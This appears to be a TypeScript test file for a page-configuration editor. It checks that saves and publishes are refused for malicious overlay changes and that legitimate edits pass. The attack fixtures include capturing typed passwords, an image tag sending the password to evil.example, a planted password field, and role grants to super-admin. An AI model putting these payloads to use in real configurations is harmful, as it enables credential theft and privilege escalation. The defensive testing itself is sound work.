import { beforeAll, beforeEach, expect, test } from 'vitest';
import { json } from '#server/kernel/db/json.ts';
import { describeOnEachDatabase } from '#tests/database/harness.ts';
import { type Api, startApi } from './api.ts';
import { createEditor, diagnosticsOf, type Editor, forgetConfiguration, workspaceId } from './configuration-calls.ts';

type Operation = Record<string, unknown>;

const words = (text: string) => ({ t: { 'zh-CN': text, 'en-US': text } });
const put = (parent: string, value: object): Operation => ({ op: 'insert', parent, slot: 'default', value });
const button = (click: object[], more: object = {}) => ({
  id: 'x.button',
  widget: 'Button',
  props: { label: words('Go') },
  on: { click },
  ...more,
});
const someone = '01JD3Q4V9M8X2T6W5R7Y1Z0ABC';
const grant = { do: 'call', call: 'updateAccount', with: { id: someone, roles: ['WORKSPACE_SUPER_ADMIN'] } };
const password = { $: 'state.password' };

/** [what it is, page, operations, one of the codes that refuse it] */
const attacks: [string, string, Operation[], string][] = [
  [
    'attack 1: each typed password is kept in the browser',
    'session.login',
    [
      {
        op: 'set',
        node: 'password',
        path: ['on'],
        value: { change: [{ do: 'keep', key: 'stolen', value: password }] },
      },
    ],
    'OVERLAY_PROTECTED',
  ],
  [
    'attack 1: a password is kept by a button of the change',
    'session.login',
    [put('card', button([{ do: 'keep', key: 'stolen', value: password }]))],
    'CHANGE_SECRET',
  ],
  [
    'attack 1: a password goes to another site with a picture',
    'session.register',
    [
      put('card', {
        id: 'x.pixel',
        widget: 'Image',
        props: { src: { $: "'https://evil.example/?' + state.password" }, alt: words('Picture') },
      }),
    ],
    'CHANGE_SECRET',
  ],
  [
    'attack 1: a form of the change stands in a fragment of the sign-in page',
    'session.pictures',
    [
      { op: 'set', path: ['state', 'mine'], value: { type: 'string', default: '' } },
      {
        op: 'insert',
        parent: 'pictures',
        slot: 'default',
        value: { id: 'x.field', widget: 'TextField', props: { label: words('Password') }, bind: 'state.mine' },
      },
    ],
    'CHANGE_CLOSED',
  ],
  ['attack 2: loading grants roles', 'settings.staff', [{ op: 'set', path: ['load'], value: [grant] }], 'CHANGE_CALL'],
  [
    'attack 2: a press grants roles',
    'workbench.app',
    [put('page', button([grant], { roles: 'accountAdmins' }))],
    'CHANGE_CALL',
  ],
  [
    'attack 2: the selection is written that a shipped delete reads',
    'settings.staff',
    [{ op: 'set', path: ['load'], value: [{ do: 'setState', path: 'state.selection', value: [someone] }] }],
    'CHANGE_STATE',
  ],
];

const legitimate: [string, string, Operation[]][] = [
  [
    'a card with a link',
    'workbench.app',
    [
      put('page', {
        id: 'x.card',
        widget: 'Card',
        slots: {
          default: [
            { id: 'x.link', widget: 'Link', props: { label: words('Help'), href: 'https://example.org/help' } },
          ],
        },
      }),
    ],
  ],
  ['a hidden section', 'workbench.home', [{ op: 'set', node: 'greeting', path: ['when'], value: 'false' }]],
  [
    'a translated text',
    'workbench.app',
    [
      {
        op: 'set',
        node: 'heading',
        path: ['props', 'text'],
        value: { t: { 'zh-CN': '应用', 'en-US': 'Our applications' } },
        was: { t: 'workbench.app.title' },
      },
    ],
  ],
  [
    'a button for administrators that opens a shipped drawer',
    'settings.staff',
    [put('page', button([{ do: 'openDrawer', drawer: 'add' }], { roles: 'workspaceAdmins' }))],
  ],
  [
    'a list of the departments',
    'workbench.app',
    [
      { op: 'set', path: ['data', 'places'], value: { call: 'listDepartments', with: {} } },
      put('page', {
        id: 'x.place',
        widget: 'Text',
        each: { in: 'data.places', as: 'place', key: 'place.id' },
        props: { text: { $: 'place.department_name' } },
      }),
    ],
  ],
];

describeOnEachDatabase('P43 P44 changed pages', (open) => {
  let api: Api;
  const editors = new Map<string, Editor>();
  async function editorOf(name: string, key: string): Promise<Editor> {
    const known = editors.get(`${name} ${key}`) ?? (await createEditor(api, name, { kind: 'overlay', key }));
    editors.set(`${name} ${key}`, known);
    return known;
  }
  beforeAll(async () => {
    api = await startApi(await open());
    editors.clear();
    return () => api.close();
  });
  beforeEach(() => forgetConfiguration(api));

  test.each(attacks)(
    '%s: saving refuses it, and there is nothing to publish',
    async (_title, key, operations, code) => {
      // The owner of a workspace, and the platform's administrator: neither may.
      for (const name of ['owner', 'root']) {
        const editor = await editorOf(name, key);
        const refused = await editor.save({ operations });
        expect(refused).toMatchObject({ status: 422, code: 'document_invalid' });
        const diagnostics = diagnosticsOf(refused);
        expect(diagnostics.map((diagnostic) => diagnostic.code)).toContain(code);
        for (const { message, hint } of diagnostics)
          expect([message, hint]).toEqual([expect.any(String), expect.any(String)]);
        expect(await editor.publish()).toMatchObject({ code: 'nothing_to_publish' });
      }
    },
  );

  test.each(attacks)('%s: publishing refuses a draft that was saved before', async (_title, key, operations, code) => {
    const editor = await editorOf('owner', key);
    await editor.save({ operations: [] });
    const draft = json<unknown>({ operations });
    await api.database.tenant(await workspaceId(api, 'acme'), (query) =>
      query.updateTable('configuration_versions').set({ value: draft }).execute(),
    );
    const refused = await editor.publish();
    expect(refused).toMatchObject({ status: 422, code: 'document_invalid' });
    expect(diagnosticsOf(refused).map((diagnostic) => diagnostic.code)).toContain(code);
  });

  test.each(legitimate)('%s is saved and published', async (_title, key, operations) => {
    const editor = await editorOf('owner', key);
    await editor.release({ operations });
    expect((await editor.get()).published).toMatchObject({ operations });
  });

  test('a denial says in both languages what to do instead', async () => {
    const editor = await editorOf('owner', 'workbench.app');
    const operations = [put('page', button([grant], { roles: 'accountAdmins' }))];
    const [diagnostic] = diagnosticsOf(await editor.save({ operations }));
    expect(diagnostic).toMatchObject({ code: 'CHANGE_CALL', pointer: '/value/operations/0' });
    expect(diagnostic?.message).toContain('“updateAccount”');
    expect(diagnostic?.hint).toMatch(/请/);
  });
});
